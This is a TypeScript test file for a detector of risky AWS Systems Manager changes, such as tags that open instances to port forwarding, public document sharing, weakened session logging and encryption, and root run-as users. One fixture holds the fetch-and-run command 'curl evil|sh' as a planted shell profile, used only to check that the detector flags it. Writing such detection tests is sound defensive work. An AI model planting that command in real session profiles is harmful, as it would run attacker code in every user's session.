import { expect, test } from 'vitest';
import { type Baseline, defaultBaseline } from '../../functions/baseline.ts';
import { judgeEvent } from '../../functions/rules/event/index.ts';
import type { Change, Finding, SessionDocument } from '../../functions/types.ts';

const head = {
  id: 'e-1',
  digest: '00',
  time: '2026-01-01T00:00:00Z',
  account: '111122223333',
  region: 'eu-west-1',
  partition: 'aws',
  resource: 'arn:aws:ec2:eu-west-1:111122223333:instance/i-0123456789abcdef0',
  actor: { type: 'IAMUser' },
  gaps: [],
};
const other = 'arn:aws:ssm:eu-west-1:111122223333:managed-instance/mi-0123456789abcdef0';

function judge(
  change: Change,
  seen: { now?: SessionDocument[]; before?: SessionDocument[] } = {},
  baseline: Partial<Baseline> = {},
): Finding[] {
  const settings = {
    baseline: { ...defaultBaseline, ...baseline },
    regime: 'implicit' as const,
    now: new Date('2026-01-01T00:00:00Z'),
  };
  return judgeEvent({ change, now: [], carried: [], before: undefined, gaps: [], ...seen }, settings);
}

const tagChange = (added: Record<string, string>, resources = [head.resource], removed: string[] = []): Change => ({
  ...head,
  kind: 'tag',
  event: 'CreateTags',
  resources,
  added,
  removed,
});
const baseline = { targetTags: { PortForward: ['true', 'yes'] } };

test.each([
  ['a value of the baseline', { PortForward: 'true' }, baseline, ['target-opened-by-tag']],
  ['the key in another case', { portforward: 'yes' }, baseline, ['target-opened-by-tag']],
  ['another value', { PortForward: 'no' }, baseline, []],
  ['a value in another case', { PortForward: 'True' }, baseline, []],
  ['another key', { Name: 'true' }, baseline, []],
  ['a key that objects inherit', { ['__proto__']: 'true', constructor: 'true' }, baseline, []],
  ['no tags in the baseline', { PortForward: 'true' }, {}, []],
])('a target is tagged with %s', (_, added, some, rules) => {
  expect(judge(tagChange(added), {}, some).map(({ rule }) => rule)).toEqual(rules);
});

test('the targets are named, the first few of many', () => {
  const [both] = judge(tagChange({ PortForward: 'true' }, [head.resource, other]), {}, baseline);
  expect(both).toMatchObject({
    severity: 'medium',
    says: 'i-0123456789abcdef0, mi-0123456789abcdef0 now carries PortForward=true: what is granted by that tag reaches it.',
  });
  const many = [...Array(9).keys()].map(i => `${head.resource}${i}`);
  expect(judge(tagChange({ PortForward: 'true' }, many), {}, baseline)[0]?.says).toContain(' and 6 more now');
});

test('a tag on a role opens no target, and taking a tag away opens none', () => {
  const role = 'arn:aws:iam::111122223333:role/ops';
  expect(judge(tagChange({ SSMSessionRunAs: 'root' }, [role]), {}, baseline).map(({ rule }) => rule)).toEqual([
    'run-as-changed',
  ]);
  expect(judge(tagChange({}, [head.resource], ['PortForward']), {}, baseline)).toEqual([]);
});

const setting = (path: string, value?: string, event = 'UpdateServiceSetting'): Change => ({
  ...head,
  kind: 'account-setting',
  event,
  setting: path,
  ...(value !== undefined && { value }),
});
const sharing = '/ssm/documents/console/public-sharing-permission';
const hosts = '/ssm/managed-instance/default-ec2-instance-management-role';

test.each([
  [sharing, 'Enable', undefined, ['public-sharing-enabled']],
  [sharing, 'Disable', undefined, []],
  [sharing, undefined, 'ResetServiceSetting', ['public-sharing-enabled']],
  [hosts, 'service-role/AWSSystemsManagerDefaultEC2InstanceManagementRole', undefined, ['default-host-management']],
  [hosts, undefined, undefined, ['default-host-management']],
  [hosts, '$None', undefined, []],
  [hosts, undefined, 'ResetServiceSetting', []],
  ['/ssm/parameter-store/high-throughput-enabled', 'true', undefined, []],
])('the setting %s becomes %s', (path, value, event, rules) => {
  expect(judge(setting(path, value, event)).map(({ rule }) => rule)).toEqual(rules);
});

const preferences = (event: string, deleted = false, name = 'SSM-SessionManagerRunShell'): Change => ({
  ...head,
  kind: 'session-document',
  event,
  name,
  shared: [],
  deleted,
});
const sound = {
  s3BucketName: 'logs',
  s3EncryptionEnabled: true,
  kmsKeyId: 'alias/sessions',
  runAsEnabled: true,
  runAsDefaultUser: 'ops',
  idleSessionTimeout: '20',
  shellProfile: { linux: 'cd', windows: '' },
};
const document = (...inputs: object[]): SessionDocument[] => [
  {
    kind: 'document',
    name: 'SSM-SessionManagerRunShell',
    versions: inputs.map((one, i) => ({
      version: i ? '$LATEST' : '$DEFAULT',
      text: JSON.stringify({ schemaVersion: '1.0', sessionType: 'Standard_Stream', inputs: one }),
    })),
  },
];
const told = (now: object, before: object[] = [sound]) =>
  judge(preferences('UpdateDocument'), { now: document(now), before: document(...before) }).map(({ says }) => says);

test.each([
  ['nothing', {}, undefined],
  [
    'what only gets stricter',
    { idleSessionTimeout: '10', maxSessionDuration: '60', cloudWatchLogGroupName: 'g' },
    undefined,
  ],
  ['a bucket lost', { s3BucketName: '' }, 'logging to the bucket "logs" is lost'],
  ['a bucket elsewhere', { s3BucketName: 'mine' }, 'logging to the bucket "logs" became "mine"'],
  ['a check', { s3EncryptionEnabled: 'false' }, 'the check that the bucket is encrypted is off'],
  ['a key', { kmsKeyId: undefined }, 'encryption with the key "alias/sessions" is lost'],
  ['run-as', { runAsEnabled: false }, 'run-as is off'],
  ['another user', { runAsDefaultUser: 'root' }, 'the user that sessions run as, "ops" became "root"'],
  ['a timeout', { idleSessionTimeout: '' }, 'the idle timeout of "20" minutes is lost'],
  ['a longer timeout', { idleSessionTimeout: 60 }, 'the idle timeout of "20" minutes became "60"'],
  [
    'a profile planted',
    { shellProfile: { linux: 'curl evil|sh', windows: '' } },
    'the linux shell profile runs "curl evil|sh" in everybody\'s sessions',
  ],
  ['a profile lost', { shellProfile: {} }, 'the linux shell profile "cd" is lost'],
])('preferences lose or gain: %s', (_, change, says) => {
  expect(told({ ...sound, ...change })).toEqual(
    says === undefined ? [] : [`The session preferences of eu-west-1 changed: ${says}.`],
  );
});

test('what is lost in either version is told once', () => {
  const weak = { ...sound, kmsKeyId: '' };
  const both = { now: document(weak, weak), before: document(sound) };
  expect(judge(preferences('UpdateDocument'), both)[0]?.says.match(/is lost/g)).toHaveLength(1);
});

test('preferences deleted, made, and of other names', () => {
  expect(judge(preferences('DeleteDocument', true)).map(({ rule, severity }) => [rule, severity])).toEqual([
    ['session-preferences-weakened', 'high'],
  ]);
  expect(judge(preferences('CreateDocument'), { now: document({ shellProfile: { linux: 'id' } }) })).toHaveLength(1);
  expect(judge(preferences('CreateDocument'), { now: document({}) })).toEqual([]);
  expect(judge(preferences('UpdateDocument'), { now: document({}) })).toEqual([]);
  const others = { now: document({}), before: document(sound) };
  expect(judge(preferences('UpdateDocument', false, 'Team-Doc'), others)).toEqual([]);
});
